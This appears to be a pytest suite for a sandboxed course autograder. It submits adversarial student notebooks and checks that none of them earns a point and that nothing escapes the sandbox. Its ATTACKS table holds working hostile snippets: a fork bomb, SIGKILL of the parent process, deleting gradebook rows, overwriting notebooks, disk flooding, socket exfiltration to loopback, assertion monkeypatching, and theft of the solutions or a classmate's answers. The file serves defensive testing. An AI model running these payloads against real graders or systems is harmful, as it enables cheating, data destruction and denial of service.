"""Students who try to get a grade they did not earn, graded in one batch with two honest students.

Every attacker starts from the blank student version of A1 (or from wrong answers), so every point
an attacker gets is undeserved. One run of ``python -m gmcourse.grading`` (two workers, each kernel
in its sandbox) grades the whole corpus; the tests below check that no attacker gets a point, that
the honest students get exactly their grades, that each attack is graded with a clear reason or
flag where the grader stepped in, that nothing was written outside the sandbox, that a loopback
listener received nothing, that no process outlived the run, and that the instructor's files and the
gradebook are whole.
"""

from __future__ import annotations

import copy
import hashlib
import os
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from test_grading import CASES, _nbgrader, _read, filled_notebook, read_csv, run_main, write_submission

pytestmark = pytest.mark.grading

CASE = next(c for c in CASES if c.ASSIGNMENT == "A1_max_likelihood")
ROOT = Path(__file__).resolve().parent.parent
CANARY = "gmcourse-canary-"
MARKER = "gmcourse-adversary-process"

# The source of a cell put at the top of the notebook (`top`) or in place of every answer (`answer`).
# Placeholders: {dirs} (folders outside the sandbox, as a Python list), {port} (the loopback listener),
# {course} (the submissions folder), {workdir}, {root} (the repository).
WRITE_CANARIES = """
import os
for _d in {dirs}:
    try:
        with open(os.path.join(_d, "{canary}" + NAME), "w") as _f:
            _f.write("written from a student kernel")
    except Exception as _e:
        print("could not write to", _d, type(_e).__name__)
"""

ATTACKS = {
    # read the solutions from disk (up from the cwd, up from gmcourse.__file__, a guessed path) and run them
    "read_solutions": dict(answer="""
import glob, json, os
import gmcourse
_found = []
for _start in (os.getcwd(), os.path.dirname(gmcourse.__file__), "{root}", "/"):
    _d = _start
    for _ in range(8):
        _found += glob.glob(os.path.join(_d, "solutions", "A1*", "*.ipynb"))
        _d = os.path.dirname(_d)
print("found", _found)
for _path in _found[:1]:
    for _cell in json.load(open(_path))["cells"]:
        if _cell["cell_type"] == "code":
            exec("".join(_cell["source"]), globals())
"""),
    # kill the grader: the parent, everything it can signal, pid 1
    "kill_grader": dict(top="""
import os, signal
for _pid in (os.getppid(), 1, -1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except Exception as _e:
        print(_pid, type(_e).__name__)
""", reason=None),
    # delete every row of every gradebook it can find
    "delete_gradebook": dict(top="""
import glob, os, sqlite3
_dbs = []
for _start in (os.getcwd(), "{workdir}", "{root}", "/"):
    _d = _start
    for _ in range(8):
        _dbs += glob.glob(os.path.join(_d, "**", "gradebook.db"), recursive=_d != "/")
        _d = os.path.dirname(_d)
for _db in set(_dbs):
    _con = sqlite3.connect(_db)
    for (_table,) in _con.execute("select name from sqlite_master where type='table'").fetchall():
        _con.execute(f"delete from {{_table}}")
    _con.commit()
print("gradebooks", _dbs)
"""),
    # send the notebook to a server on the loopback interface (TCP and UDP)
    "loopback": dict(top="""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen answers")
except Exception as _e:
    print("tcp", type(_e).__name__)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen answers", ("127.0.0.1", {port}))
except Exception as _e:
    print("udp", type(_e).__name__)
"""),
    "write_outside": dict(top=WRITE_CANARIES),
    "big_memory": dict(top="_x = bytearray(6 * 2**30)\n_x[::4096] = b'1' * len(_x[::4096])\n", reason="ran out of memory"),
    "delete_tests": dict(delete_tests=True, flag="deleted locked cell(s)"),
    "exit_kernel": dict(top="import os\nos._exit(0)\n", reason="the kernel exited"),
    "always_equal": dict(top="""
class AlwaysEqual(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return AlwaysEqual(0.0)
    def __sub__(self, other): return AlwaysEqual(0.0)
    def __rsub__(self, other): return AlwaysEqual(0.0)
    def __bool__(self): return True
_LIAR = AlwaysEqual(0.0)
""", answer="LIAR", flag="defines __eq__"),
    "patch_asserts": dict(top="""
import math, numpy, numpy.testing, torch, torch.testing
torch.testing.assert_close = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
torch.allclose = lambda *args, **kwargs: True
""", answer="ZEROS", flag="assigns to torch.testing.assert_close", reason="torch.testing.assert_close"),
    # IPython itself: no cell runs any more (so no test can fail) ...
    "replace_exec": dict(top="import builtins\nbuiltins.exec = lambda *args, **kwargs: None\n",
                         reason="the check did not run"),
    # ... or the functions the tests call are swapped only while a cell runs, by IPython's own hooks
    "ipython_hooks": dict(top="""
import torch.testing
_real = torch.testing.assert_close
def _swap(*args):
    torch.testing.assert_close = lambda *a, **k: None
def _back(*args):
    torch.testing.assert_close = _real
get_ipython().events.register("pre_run_cell", _swap)
get_ipython().events.register("post_run_cell", _back)
""", answer="ZEROS", reason="replaced what the tests rely on"),
    # builtins shadowed in the notebook's namespace, which the test cells share
    "shadow_builtins": dict(top="""
import torch
isinstance = lambda *args: True
type = lambda obj: torch.Tensor
""", answer="ZEROS"),
    "infinite_loop": dict(top="while True:\n    pass\n", reason="ran longer than"),
    "huge_output": dict(top="for _ in range(200):\n    print('x' * 10**6)\n"),
    "swallow_exceptions": dict(top="""
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
""", answer="ZEROS"),
    "edit_tests": dict(edit_tests=True, flag="edited locked cell(s)"),
    # every test cell renamed (a new grade_id), emptied and worth 100 points: the originals come back
    "repoint_tests": dict(repoint_tests=True, flag="deleted locked cell(s)"),
    "ctypes": dict(top="""
import ctypes, os
_libc = ctypes.CDLL(None)
print(_libc.kill(os.getppid(), 9), _libc.kill(-1, 9), _libc.unshare(0x40000000))
""", flag="imports ctypes"),
    "fork_bomb": dict(top="""
import os
while True:
    os.fork()
"""),
    # a process that outlives its kernel and writes later
    "lingering_subprocess": dict(top="""
import subprocess, sys
_code = '''
import os, time
time.sleep(6)
for _d in {dirs}:
    try:
        open(os.path.join(_d, "{canary}lingering"), "w").write("late")
    except Exception:
        pass
'''
subprocess.Popen([sys.executable, "-c", _code, "{marker}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""),
    # fill the disk: the working directory, /tmp and the kernel's run directory (found in its command line)
    "disk_flood": dict(top="""
import os
_run_dir = os.path.dirname(open("/proc/self/cmdline").read().split("\\0")[-2])
for _d in (".", "/tmp", _run_dir):
    try:
        for _i in range(40):
            with open(os.path.join(_d, f"flood{{_i}}"), "wb") as _f:
                _f.write(b"0" * 2**26)
    except Exception as _e:
        print(_d, type(_e).__name__)
"""),
    "cwd_and_sys_path": dict(top="""
import os, sys
os.makedirs("evil", exist_ok=True)
open("evil/torch.py", "w").write("raise SystemExit")
sys.path.insert(0, os.path.abspath("evil"))
os.chdir("/")
""", answer="ZEROS"),
    # overwrite any notebook it can reach with a full-marks copy of itself
    "overwrite_notebook": dict(top="""
import glob, os
_targets = []
for _start in (os.getcwd(), "{course}", "{workdir}", "/"):
    _targets += glob.glob(os.path.join(_start, "**", "*.ipynb"), recursive=_start != "/")
for _t in _targets:
    try:
        open(_t, "w").write("{{}}")
    except Exception as _e:
        print(_t, type(_e).__name__)
print("targets", _targets)
"""),
    # copy an honest classmate's answers
    "read_other_submission": dict(answer="""
import glob, json, os
_found = []
for _start in ("{course}", "{workdir}", "/tmp", "/home", "/root", os.getcwd()):
    _found += glob.glob(os.path.join(_start, "**", "honest_full*.ipynb"), recursive=True)
print("found", _found)
for _path in _found[:1]:
    for _cell in json.load(open(_path))["cells"]:
        if _cell["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(_cell["source"]), globals())
"""),
    # the library's reference implementation instead of one's own
    "forbidden_module": dict(answer="from gmcourse.divergences import *\n", reason="gmcourse.divergences, which A1_max_likelihood does not allow"),
}


def _answer_names(case) -> dict[str, list[tuple[str, bool]]]:
    """grade_id of each answer cell -> (name, is a function) for each name its solution defines at top level."""
    import ast

    from test_grading import _answers

    names = {}
    for grade_id, source in _answers(case).items():
        tree = ast.parse(source)
        found = [(n.name, True) for n in tree.body if isinstance(n, (ast.FunctionDef, ast.ClassDef))]
        found += [(t.id, False) for n in tree.body if isinstance(n, ast.Assign) for t in n.targets
                  if isinstance(t, ast.Name)]
        names[grade_id] = found
    return names


def _stand_in(names: list[tuple[str, bool]], value: str) -> str:
    """An answer that defines every name the solution defines, each returning (or being) ``value``."""
    return "".join(f"def {name}(*args, **kwargs):\n    return {value}\n" if function else f"{name} = {value}\n"
                   for name, function in names)


def attack_notebook(name: str, spec: dict, fill: dict):
    nb = copy.deepcopy(_read(CASE, "exercises"))
    names = _answer_names(CASE)
    for cell in nb.cells:
        meta = _nbgrader(cell)
        if meta.get("solution"):
            if spec.get("answer") == "LIAR":
                cell.source = _stand_in(names[meta["grade_id"]], "_LIAR")
            elif spec.get("answer") == "ZEROS":
                cell.source = "import torch\n" + _stand_in(names[meta["grade_id"]], "torch.zeros(())")
            elif spec.get("answer"):
                cell.source = spec["answer"].format(**fill)
        elif meta.get("grade") and (spec.get("edit_tests") or spec.get("repoint_tests")):
            cell.source, meta["points"] = "pass", 100
            if spec.get("repoint_tests"):
                meta["grade_id"] += "_mine"
    if spec.get("delete_tests"):
        nb.cells = [c for c in nb.cells if not (_nbgrader(c).get("grade") and not _nbgrader(c).get("solution"))]
    if spec.get("top"):
        nb.cells.insert(0, nbformat.v4.new_code_cell(f"NAME = {name!r}\n" + spec["top"].format(**fill)))
    return nb


class Listener:
    """TCP and UDP on one loopback port; records every byte that arrives."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.received, self.stop = [], threading.Event()
        for target in (self._accept, self._datagrams):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self):
        self.tcp.settimeout(0.2)
        while not self.stop.is_set():
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                continue
            self.received.append(b"<connection>" + connection.recv(1024))
            connection.close()

    def _datagrams(self):
        self.udp.settimeout(0.2)
        while not self.stop.is_set():
            try:
                self.received.append(self.udp.recv(1024))
            except OSError:
                continue

    def close(self):
        self.stop.set()
        self.tcp.close()
        self.udp.close()


def _fingerprint(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    import psutil

    tmp = tmp_path_factory.mktemp("adversarial")
    course, workdir = tmp / "course", tmp / "work"
    outside = [str(Path.home()), "/tmp", str(tmp), str(ROOT), str(workdir), str(ROOT / "solutions"), "/root", "/"]
    listener = Listener()
    fill = dict(dirs=repr(outside), port=listener.port, course=course, workdir=workdir, root=ROOT,
                canary=CANARY, marker=MARKER)
    students = {"honest_full": filled_notebook(CASE)}
    wrong = "entropy_in_bits"
    students["honest_partial"] = filled_notebook(CASE, CASE.WRONG_ANSWERS[wrong][0])
    expected = {"honest_full": CASE.MAX_SCORE, "honest_partial": CASE.WRONG_ANSWERS[wrong][1]}
    for name, spec in ATTACKS.items():
        students[name] = attack_notebook(name, spec, fill)
    for student, nb in students.items():
        write_submission(course / "submitted" / student / CASE.ASSIGNMENT / CASE.NOTEBOOK, nb)
    before, solutions_before = _fingerprint(course), _fingerprint(ROOT / "solutions")
    start = time.monotonic()
    code, out, err = run_main([CASE.ASSIGNMENT, str(course), "--workdir", str(workdir), "--workers", "2"])
    seconds = time.monotonic() - start
    time.sleep(7)  # longer than the lingering process waits before it writes
    listener.close()
    header, rows = read_csv(workdir / "grades.csv")
    survivors = [p.info["cmdline"] for p in psutil.process_iter(["cmdline"]) if MARKER in " ".join(p.info["cmdline"] or [])]
    canaries = [str(p) for d in outside if os.path.isdir(d) for p in Path(d).glob(CANARY + "*")]
    return dict(code=code, out=out, err=err, rows=rows, expected=expected, workdir=workdir, seconds=seconds,
                received=listener.received, survivors=survivors, canaries=canaries,
                course_unchanged=before == _fingerprint(course),
                solutions_unchanged=solutions_before == _fingerprint(ROOT / "solutions"))


def test_no_attacker_gets_a_single_point(corpus):
    scores = {name: corpus["rows"][name]["score"] for name in ATTACKS}
    assert {name: s for name, s in scores.items() if s == "" or float(s) != 0.0} == {}, corpus["err"]


def test_honest_students_get_exactly_their_grades(corpus):
    for student, score in corpus["expected"].items():
        row = corpus["rows"][student]
        assert float(row["score"]) == score and row["status"] == "graded" and row["reason"] == "", row


def test_every_attack_is_graded_and_the_grader_says_where_it_stepped_in(corpus):
    for name, spec in ATTACKS.items():
        row = corpus["rows"][name]
        assert row["status"] in ("graded", "graded with a problem"), row
        if spec.get("reason"):
            assert spec["reason"] in row["reason"] and row["status"] == "graded with a problem", (name, row)
        if spec.get("flag"):
            assert spec["flag"] in row["notes"], (name, row)
    assert corpus["code"] == 3, (corpus["code"], corpus["err"])  # all graded, some with a problem
    lines = {line.split()[0]: line for line in corpus["out"].splitlines() if line.split()[:1]}
    assert all(name in lines and "/ 24" in lines[name] for name in ATTACKS), corpus["out"]


def test_nothing_is_written_outside_the_sandbox(corpus):
    assert corpus["canaries"] == []
    assert corpus["course_unchanged"] and corpus["solutions_unchanged"]


def test_a_loopback_listener_receives_nothing(corpus):
    assert corpus["received"] == []


def test_no_process_outlives_the_grading(corpus):
    assert corpus["survivors"] == []


def test_the_gradebook_holds_every_student(corpus):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{corpus['workdir'] / 'gradebook.db'}") as gradebook:
        scores = {s.student.id: s.score for s in gradebook.assignment_submissions(CASE.ASSIGNMENT)}
    assert set(scores) == set(ATTACKS) | set(corpus["expected"])
    assert all(scores[name] == 0 for name in ATTACKS)
    assert {s: scores[s] for s in corpus["expected"]} == corpus["expected"]


def test_huge_output_is_cut_in_what_is_kept(corpus):
    executed = corpus["workdir"] / "executed" / "huge_output" / CASE.NOTEBOOK
    assert executed.stat().st_size < 4 * 2 ** 20, executed.stat().st_size
